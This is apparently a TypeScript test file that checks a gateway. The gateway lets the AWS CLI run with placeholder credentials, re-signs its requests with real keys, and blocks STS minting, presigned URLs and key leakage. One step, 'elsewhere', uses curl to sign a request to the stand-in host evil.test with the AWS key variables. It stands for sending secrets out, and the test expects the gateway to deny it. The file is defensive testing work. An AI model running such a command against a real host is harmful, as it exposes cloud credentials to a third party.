/** The real AWS CLI with placeholder keys, against a server that checks each signature with the real ones. */
import { expect } from 'bun:test'
import { EXAMPLE_KEYS } from '../../gateway/aws-verifier.ts'
import { runSteps } from './steps.ts'
import { forEachKind } from './world.ts'
import { AWS_HOSTS } from './zones.ts'

const AWS = '/usr/bin/aws'
const NAMES = ['AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'AWS_SESSION_TOKEN'] as const
const env = {
  AWS_ACCESS_KEY_ID: EXAMPLE_KEYS.id,
  AWS_SECRET_ACCESS_KEY: EXAMPLE_KEYS.key,
  AWS_SESSION_TOKEN: EXAMPLE_KEYS.token,
}
const to = AWS_HOSTS.map(name => `${name}:443`)
/** More than one part: the CLI downloads 8 MiB at a time. */
const BYTES = 9_000_001

forEachKind(
  'P22 the AWS CLI signs with placeholders, and pen signs again with the real keys',
  async (world, project) => {
    project.writeLive(
      'config.json',
      JSON.stringify({
        version: 1,
        network: { http: [...to, 'evil.test:80'] },
        env: { AWS_REGION: 'us-east-1', AWS_EC2_METADATA_DISABLED: 'true' },
        secrets: [{ name: 'AWS', sign: 'aws', from: { env: 'AWS' }, to }],
      }),
    )
    const heard = world.listen()
    const { steps, audit } = await runSteps(
      project,
      {
        variables: `printf '%s\\n' ${NAMES.map(name => `"$${name}"`).join(' ')}`,
        identity: `${AWS} sts get-caller-identity --output text`,
        up: `head -c ${BYTES} /dev/zero | tr '\\0' x > big && ${AWS} s3api put-object --bucket bucket --key 'a b/c+d' --body big`,
        down: `${AWS} s3 cp --no-progress 's3://bucket/a b/c+d' back && cmp big back && echo same`,
        mint: `${AWS} sts get-session-token 2>&1`,
        presigned: `curl -sSi "$(${AWS} s3 presign 's3://bucket/a b/c+d')"`,
        elsewhere:
          'curl -sSi --aws-sigv4 aws:amz:us-east-1:s3 -u "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" http://evil.test/',
      },
      { env },
    )
    const placeholders = steps.variables.said.trim().split('\n')
    expect(placeholders.map(text => text.length)).toEqual(NAMES.map(name => env[name].length))
    for (const [i, name] of NAMES.entries()) expect(placeholders[i]).not.toBe(env[name])
    expect(steps.identity.said).toContain('123456789012')
    expect([steps.up.code, steps.up.said]).toEqual([0, expect.stringContaining('ETag')])
    expect(steps.down.said).toContain('same')
    expect(steps.mint.said).toContain('pen does not sign a call of STS')
    expect(steps.presigned.said).toContain('x-pen-denied: not-signed')
    expect(steps.elsewhere.said).toContain('x-pen-denied: secret-elsewhere')
    const seen = heard.requests
      .filter(line => line.startsWith('aws '))
      .map(line => line.split(' ').slice(1).join(' '))
    expect(seen[0]).toStartWith('sts.us-east-1.amazonaws.com POST signed ')
    expect(seen[1]).toBe(`bucket.s3.us-east-1.amazonaws.com PUT signed ${BYTES}`)
    expect(seen.slice(2).map(line => line.split(' ').slice(1).join(' '))).toEqual([
      'HEAD signed 0',
      'GET signed 0',
      'GET signed 0',
    ])
    for (const { said } of Object.values(steps)) {
      expect(said).not.toContain(EXAMPLE_KEYS.key)
      expect(said).not.toContain(EXAMPLE_KEYS.token)
    }
    expect(audit).toContainEqual(expect.objectContaining({ kind: 'request-allowed', secrets: ['AWS'] }))
  },
  { users: 'ordinary', needs: AWS },
)
